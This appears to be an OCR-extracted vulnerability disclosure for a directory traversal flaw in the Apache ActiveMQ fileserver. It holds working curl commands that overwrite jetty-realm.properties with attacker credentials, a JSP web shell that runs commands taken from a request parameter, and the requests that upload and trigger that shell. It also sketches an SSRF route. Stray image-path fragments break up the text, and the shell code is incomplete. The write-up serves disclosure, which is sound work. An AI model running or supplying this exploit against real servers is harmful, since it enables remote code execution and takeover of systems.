Apache ActiveMQ 5.11.1/5.13.2 - Directory Traversal / Command Execution







I have recently been playing with Apache ActiveMQ, and came across a simple but interesting directory traversal flaw in the fileserver upload/download functionality.
I have only been able to reproduce this on Windows, i.e. where "\" is a path delimiter.
An attacker could use this flaw to upload arbitrary files to the server, including a JSP shell, leading to remote code execution.

Exploiting Windows systems to achieve RCE The default conf/jetty.xml includes:
 <bean class="org.eclipse.jetty.security.ConstraintMapping" id="securityConstraintMapping">
     <property name="constraint" ref="securityConstraint">
     <property name="pathSpec" value="/api/*,/admin/*,*.jsp">
Effectively blocking the upload of JSP files intocontexts that will allow them to execute.

I imagine there are many ways around this; for my proof of concept I opted to overwrite conf/jetty-realm.properties and set my own credentials:

$ cat jetty-realm.properties hacker: hacker, admin
$ curl -v -X PUT --data "@jetty-realm.properties" http://TARGET:8161/fileserver/..\\conf\\jetty-realm.properties

This seems to have the disadvantage of requiring a reboot of the server to take effect.
I am not sure if that is always the case, but if so, I'm pretty sure there is some other workaround that wouldn't require a reboot.
The attacker can then take a standard JSP shell:

$ cat cmd.jsp
 <%@ page import="java.util.*,java.io.*"%>
 Commands with JSP
 <FORM METHOD="GET" NAME="myform" ACTION="">
 <INPUT TYPE="text" NAME="cmd">
 <INPUT TYPE="submit" VALUE="Send">
 if (request.getParameter("cmd") != null) {
 out.println("Command: " + request.getParameter("cmd") + "<BR>");
 Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
 OutputStream os = p.getOutputStream();
 InputStream in = p.getInputStream();
 DataInputStream dis = new DataInputStream(in);
 String disr = dis.readLine();
 while ( disr != null ) {
 disr = dis.readLine();

Upload it, exploiting the "..\" directory traversal flaw to put it into an executable context:

$ curl -u 'hacker:hacker' -v -X PUT--data "@cmd.jsp" http://TARGET:8161/fileserver/..\\admin\\cmd.jsp

And pop a calc on the server:

$ curl -u 'hacker:hacker' -v -X GET http://TARGET:8161/admin/cmd.jsp?cmd=calc.exe

Exploiting non-Windows servers

All attempts at directory traversal on a Linux system failed - encoded, double encoded, and UTF-8 encoded "../" were all caught by Jetty. Only "..\" worked.
That said, clients can specify the uploadUrl for a blob transfer, e.g.:An attacker able to enqueue messages could use this to perform server side request forgery to an arbitrary uploadUrl target, even when running on non-Windows servers.


The ActiveMQ project has released an advisory and patches.
This is not the first instance of such a flaw in an open source Java application; CVE-2014-7816 comes to mind.
It demonstrates that while Java may be platform independent, many developers are used to developing for a particular OS, and don't necessarilytake cross-platform concerns into account.